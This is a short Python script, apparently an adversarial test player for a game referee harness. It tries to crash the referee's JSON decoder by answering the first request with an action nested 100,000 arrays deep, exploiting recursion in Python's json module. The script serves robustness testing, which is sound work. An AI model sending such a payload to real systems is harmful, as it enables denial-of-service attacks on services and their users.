"""Attack: crash the referee's decoder: answer with an action nested 100,000 arrays deep (200 KB,
well under the line cap). Python's json module recurses once per level."""

from attacklib import play

DEPTH = 100_000


def on_request(number, request):
    if number == 1:
        nested = "[" * DEPTH + "]" * DEPTH
        return f'{{"type": "action", "id": {request["id"]}, "action": {nested}}}'
    return None


play(name="nested-json", on_request=on_request)
